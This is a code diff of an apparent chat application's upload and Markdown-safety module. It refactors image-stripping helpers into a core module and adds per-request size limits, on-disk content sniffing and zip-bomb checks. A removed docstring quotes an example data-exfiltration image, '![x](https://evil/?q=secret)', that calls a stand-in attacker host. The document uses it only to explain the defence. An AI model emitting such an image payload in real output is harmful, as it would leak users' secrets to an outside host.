@@ -1,19 +1,16 @@
-"""What the chat shows and accepts safely: markdown without remote images, uploads checked by content."""
+"""What the chat accepts safely: uploads checked by content (and, from core, Markdown made inert)."""
 
 from __future__ import annotations
 
-import re
 from dataclasses import dataclass
 from io import BytesIO
+from pathlib import Path
 
 from tradeassist.core.errors import BadInputError, IngestError
+from tradeassist.core.inert_markdown import inert_answer_json, plain_name, strip_remote_images
 
-#: ``![alt](url)`` and ``![alt][ref]`` images, and raw ``<img>`` tags.
-_MD_IMAGE = re.compile(r"!\[([^\]]*)\]\((?:<[^>]*>|[^)])*\)")
-_MD_IMAGE_REF = re.compile(r"!\[([^\]]*)\]\[[^\]]*\]")
-_HTML_IMG = re.compile(r"<\s*img\b[^>]*>", re.IGNORECASE)
-#: Reference definitions (``[ref]: http://...``) may feed image references; they are shown as text.
-_REF_DEF = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
+__all__ = ["inert_answer_json", "plain_name", "strip_remote_images", "UploadLimits", "check_upload",
+           "check_upload_kind", "screen_upload", "upload_size"]
 
 #: Sum of uncompressed sizes a DOCX/XLSX/PPTX may expand to, and the largest ratio allowed.
 MAX_UNZIPPED_BYTES = 300 * 1024 * 1024
@@ -28,50 +25,47 @@ _EXTENSION_KINDS = {
 }
 
 
-def strip_remote_images(markdown: str) -> str:
-    """Markdown with every image replaced by a plain note, so no remote host is ever fetched.
-
-    Answers quote retrieved documents, which may carry tracking pixels or data-exfiltration
-    images (``![x](https://evil/?q=secret)``); the chat never renders them.
-    """
-    text = _MD_IMAGE.sub(lambda m: f"[image removed: {m.group(1) or 'untitled'}]", markdown)
-    text = _MD_IMAGE_REF.sub(lambda m: f"[image removed: {m.group(1) or 'untitled'}]", text)
-    text = _HTML_IMG.sub("[image removed]", text)
-    text = text.replace("![", "!\\[")  # anything image-like left over is shown as text
-    return _REF_DEF.sub(lambda m: m.group(0).replace("[", "\\[", 1), text)
-
-
-#: Characters that give markdown meaning; a file name is shown with each of them escaped.
-_MARKDOWN_CHARS = re.compile(r"([\\`*_{}\[\]()#+\-.!<>|~])")
-
-
-def plain_name(name: str) -> str:
-    """A file name as literal markdown text: ``![x](http://host/p)`` shows as typed, never as an image."""
-    return _MARKDOWN_CHARS.sub(r"\\\1", name.replace("\n", " ").replace("\r", " "))
-
-
 @dataclass(frozen=True)
 class UploadLimits:
-    """How many files and how large an upload may be."""
+    """How many files one upload request may hold, and how many bytes all of them together."""
 
     max_files: int = 10
-    max_file_bytes: int = 50 * 1024 * 1024
+    max_request_bytes: int = 50 * 1024 * 1024
 
 
-def check_upload_kind(name: str, data: bytes) -> str:
+#: An upload as the checks take it: its name, and its bytes or the file the server streamed it to.
+Upload = tuple[str, "bytes | Path"]
+#: Bytes read from the start of a file to tell its kind (magic bytes; zip files are read from disk).
+SNIFF_BYTES = 64 * 1024
+
+
+def upload_size(source: bytes | Path) -> int:
+    """The size of an upload's content, in memory or on disk."""
+    return len(source) if isinstance(source, (bytes, bytearray, memoryview)) else Path(source).stat().st_size
+
+
+def check_upload_kind(name: str, source: bytes | Path) -> str:
     """The file's kind from its content (``tradeassist.ingest.sniff``), cross-checked with its extension.
 
-    Raises BadInputError for content ingest cannot read, an Office file that would inflate into
-    far more data than it holds, or a name that disguises another type (for example an
-    executable renamed ``report.pdf``).
+    ``source`` is the content or the file holding it (only its first bytes and, for Office files,
+    its zip directory are read). Raises BadInputError for content ingest cannot read, an Office file
+    that would inflate into far more data than it holds, or a name that disguises another type (for
+    example an executable renamed ``report.pdf``).
     """
     from tradeassist.ingest.limits import Limits, check_zip_package
     from tradeassist.ingest.sniff import sniff_kind as content_kind
 
+    on_disk = not isinstance(source, (bytes, bytearray, memoryview))
+    if on_disk:
+        with Path(source).open("rb") as handle:
+            head = handle.read(SNIFF_BYTES)
+    else:
+        head = bytes(source)
     try:
-        kind = content_kind(data, name=name)
+        kind = content_kind(head, name=name, zip_source=str(source) if on_disk else None)
         if kind.is_ooxml:
-            check_zip_package(BytesIO(data), Limits(max_unzipped_bytes=MAX_UNZIPPED_BYTES, max_zip_ratio=MAX_ZIP_RATIO))
+            package = Path(source) if on_disk else BytesIO(head)
+            check_zip_package(package, Limits(max_unzipped_bytes=MAX_UNZIPPED_BYTES, max_zip_ratio=MAX_ZIP_RATIO))
     except IngestError as exc:
         raise BadInputError(f"{name} cannot be ingested: {exc}.") from exc
     extension = name.rsplit(".", 1)[-1].lower() if "." in name else ""
@@ -82,40 +76,47 @@ def check_upload_kind(name: str, data: bytes) -> str:
     return kind.value
 
 
-def check_upload(files: list[tuple[str, bytes]], limits: UploadLimits) -> list[str]:
-    """Check a batch of uploads; returns each file's kind, or raises with a clear message."""
+def _size(count: int) -> str:
+    """A byte count as a person reads it (512 bytes, 12.3 KB, 50.0 MB)."""
+    if count < 1024:
+        return f"{count} bytes"
+    return f"{count / 1024:.1f} KB" if count < 1024 * 1024 else f"{count / (1024 * 1024):.1f} MB"
+
+
+def _check_batch(files: list[Upload], limits: UploadLimits) -> None:
+    """Refuse a whole request: no file, too many files, or more bytes together than one request may hold."""
     if not files:
         raise BadInputError("No file was uploaded.")
     if len(files) > limits.max_files:
         raise BadInputError(f"{len(files)} files at once is too many; the limit is {limits.max_files}.")
+    total = sum(upload_size(source) for _, source in files)
+    if total > limits.max_request_bytes:
+        raise BadInputError(f"These files hold {_size(total)} together; one upload may hold "
+                            f"{_size(limits.max_request_bytes)}. Upload them in several parts.")
+
+
+def check_upload(files: list[Upload], limits: UploadLimits) -> list[str]:
+    """Check a batch of uploads; returns each file's kind, or raises with a clear message."""
+    _check_batch(files, limits)
     kinds = []
-    for name, data in files:
-        if len(data) > limits.max_file_bytes:
-            raise BadInputError(
-                f"{name} is {len(data) / 1e6:.1f} MB; the limit is {limits.max_file_bytes / 1e6:.0f} MB."
-            )
-        if not data:
+    for name, source in files:
+        if not upload_size(source):
             raise BadInputError(f"{name} is empty.")
-        kinds.append(check_upload_kind(name, data))
+        kinds.append(check_upload_kind(name, source))
     return kinds
 
 
-def screen_upload(
-    files: list[tuple[str, bytes]], limits: UploadLimits
-) -> tuple[list[tuple[str, bytes, str]], list[tuple[str, str]]]:
-    """Split a batch into accepted ``(name, data, kind)`` and refused ``(name, reason)`` files.
+def screen_upload(files: list[Upload], limits: UploadLimits) -> tuple[list[tuple[str, bytes | Path, str]], list[tuple[str, str]]]:
+    """Split a batch into accepted ``(name, source, kind)`` and refused ``(name, reason)`` files.
 
-    Only a batch that is empty or has too many files is refused as a whole; otherwise each bad
-    file fails alone and the others go in.
+    A batch that is empty, has too many files or more bytes than one request may hold is refused
+    as a whole; otherwise each bad file fails alone and the others go in.
     """
-    if not files:
-        raise BadInputError("No file was uploaded.")
-    if len(files) > limits.max_files:
-        raise BadInputError(f"{len(files)} files at once is too many; the limit is {limits.max_files}.")
+    _check_batch(files, limits)
     accepted, refused = [], []
-    for name, data in files:
+    for name, source in files:
         try:
-            accepted.append((name, data, check_upload([(name, data)], limits)[0]))
+            accepted.append((name, source, check_upload([(name, source)], limits)[0]))
         except BadInputError as exc:
             refused.append((name, str(exc)))
     return accepted, refused
